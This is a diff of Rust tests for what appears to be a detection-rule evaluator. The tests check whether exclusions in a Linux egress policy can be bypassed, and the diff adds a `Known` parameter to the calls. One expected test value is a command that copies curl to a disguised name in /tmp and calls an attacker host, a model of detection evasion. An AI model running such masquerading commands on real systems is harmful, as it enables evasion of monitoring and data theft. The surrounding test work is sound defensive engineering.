@@ -8,6 +8,7 @@ use lownoise_engine::value::Time;
 use lownoise_prove::verdict;
 
 use super::control;
+use super::known::Known;
 use super::strength::{Outcome, Strengths, strengths};
 use super::technique::techniques;
 
@@ -56,7 +57,7 @@ fn every_described_table_has_techniques() {
 #[test]
 fn every_exclusion_of_the_hunt_is_ridden_with_an_event_and_a_command() {
     let policy = policy("linux-desktop-public-egress");
-    let strengths = strengths(&policy, now()).unwrap();
+    let strengths = strengths(&policy, now(), &Known::default()).unwrap();
     let found = rides(&policy, &strengths);
     let expected = [
         ("sensecm", 2, "cp /usr/bin/curl /tmp/sensecm && /tmp/sensecm https://attacker.example/"),
@@ -81,7 +82,7 @@ fn every_exclusion_of_the_hunt_is_ridden_with_an_event_and_a_command() {
 #[test]
 fn only_root_rides_the_hardened_policy() {
     let policy = policy("linux-desktop-public-egress-hardened");
-    let strengths = strengths(&policy, now()).unwrap();
+    let strengths = strengths(&policy, now(), &Known::default()).unwrap();
     assert_eq!(strengths.all.len(), policy.exclusions.len());
     for (id, rung, command) in rides(&policy, &strengths) {
         assert_eq!(rung, 6, "{id}: {command}");
@@ -93,7 +94,7 @@ fn only_root_rides_the_hardened_policy() {
 fn every_ride_is_hidden_by_the_reference_evaluator() {
     for name in ["linux-desktop-public-egress", "linux-desktop-public-egress-hardened"] {
         let policy = policy(name);
-        for strength in &strengths(&policy, now()).unwrap().all {
+        for strength in &strengths(&policy, now(), &Known::default()).unwrap().all {
             let Outcome::Ridden(ride) = &strength.outcome else { continue };
             let verdict = verdict(&policy, &ride.event, now());
             let hides = matches!(&verdict, lownoise_engine::evaluate::Verdict::Hidden(by) if by.contains(&strength.exclusion));
